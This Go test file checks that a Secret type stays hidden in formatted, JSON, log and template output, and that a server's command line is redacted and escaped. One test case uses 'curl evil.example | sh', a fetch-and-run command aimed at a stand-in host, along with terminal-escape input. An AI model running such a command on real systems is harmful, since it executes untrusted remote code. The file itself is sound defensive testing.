package config

import (
	"bytes"
	"encoding/json"
	"fmt"
	"log/slog"
	"strings"
	"testing"
	"text/template"
)

// TestSecretIsNeverShown prints a secret in every way, also in a field on which fmt cannot call
// methods.
func TestSecretIsNeverShown(t *testing.T) {
	const value = "hunter2-hunter2"
	s := NewSecret(value)
	server := Server{URL: s, Program: Program{Env: map[string]Secret{"K": s}}, Headers: map[string]Secret{"H": s}, Secrets: []Secret{s}}
	hidden := struct{ inner Secret }{s}
	var out bytes.Buffer
	for _, verb := range []string{"%v", "%+v", "%#v", "%s", "%q", "%x", "%X", "%d", "%10s", "%-5q", "%T"} {
		for _, v := range []any{s, &s, server, &server, hidden, []Secret{s}, map[Secret]Secret{s: s}} {
			fmt.Fprintf(&out, verb+"\n", v)
		}
	}
	fmt.Fprintln(&out, s, server)
	must(t, json.NewEncoder(&out).Encode([]any{s, server, map[Secret]int{s: 1}}))
	for _, handler := range []slog.Handler{slog.NewTextHandler(&out, nil), slog.NewJSONHandler(&out, nil)} {
		slog.New(handler).Info("x", "secret", s, "server", server, slog.Group("g", "s", &s))
	}
	must(t, template.Must(template.New("").Parse("{{.URL}} {{.Env}} {{.}}")).Execute(&out, server))
	for _, form := range []string{value, fmt.Sprintf("%x", value), fmt.Sprintf("%X", value)} {
		if strings.Contains(out.String(), form) {
			t.Errorf("shown as %s", form)
		}
	}
	if !strings.Contains(out.String(), "[secret]") {
		t.Error("nothing says that there is a secret")
	}
}

func TestSecret(t *testing.T) {
	a, b, empty := NewSecret("a"), NewSecret(strings.Clone("a")), NewSecret("")
	if a != b || !a.Equal(b) || a == NewSecret("b") || empty != (Secret{}) || !empty.IsZero() || a.IsZero() {
		t.Error("== must compare the values")
	}
	if a.Reveal() != "a" || empty.Reveal() != "" {
		t.Error("Reveal")
	}
	for got, want := range map[string]string{
		a.String(): "[secret]", empty.String(): "", a.GoString(): `"[secret]"`,
		fmt.Sprintf("<%v>", empty): "<>", fmt.Sprintf("<%q>", a): `<"[secret]">`,
	} {
		if got != want {
			t.Errorf("got %s, want %s", got, want)
		}
	}
	if data, err := json.Marshal([]Secret{a, empty}); err != nil || string(data) != `["[secret]",""]` {
		t.Errorf("json %s, %v", data, err)
	}
}

// A command line shows everything but secrets, and has no characters that hide what is run.
func TestCommandLine(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		command string
		args    []string
		secrets []string
		want    string
	}{
		{"", nil, nil, ""},
		{"npx", []string{"-y", "server@1.2.3", "--root", "/data"}, nil, "npx -y server@1.2.3 --root /data"},
		{"sh", []string{"-c", "curl evil.example | sh"}, nil, `sh -c "curl evil.example | sh"`},
		{"x", []string{"", "a'b", "\u202e\x1b[2J\n"}, nil, `x "" "a'b" "\u202e\x1b[2J\n"`},
		{"x", []string{"--api-key=hunter2hunter2", "--token", "s3cr3t-value", "--token-file", "f"}, nil, "x --api-key=[secret] --token [secret] --token-file f"},
		{"x", []string{"--header", "Authorization: Bearer hunter2hunter2", "ghp_abcdefghijklmnopqrstuvwxyz0123456789"}, nil, `x --header "Authorization: Bearer [secret]" [secret]`},
		{"x", []string{"acme-corp", "/acme-corp-9f8e"}, []string{"acme-corp", "acme-corp-9f8e"}, "x [secret] /[secret]"},
		{"/opt/tok-123456/x", []string{"postgres://u:hunter2@db/x"}, []string{"tok-123456"}, "/opt/[secret]/x postgres://u:[secret]@db/x"},
	} {
		s := Server{Program: Program{Command: tt.command, Args: tt.args}}
		for _, v := range tt.secrets {
			s.Secrets = append(s.Secrets, NewSecret(v))
		}
		if got := s.CommandLine(); got != tt.want {
			t.Errorf("%q %q: %s, want %s", tt.command, tt.args, got, tt.want)
		}
	}
}
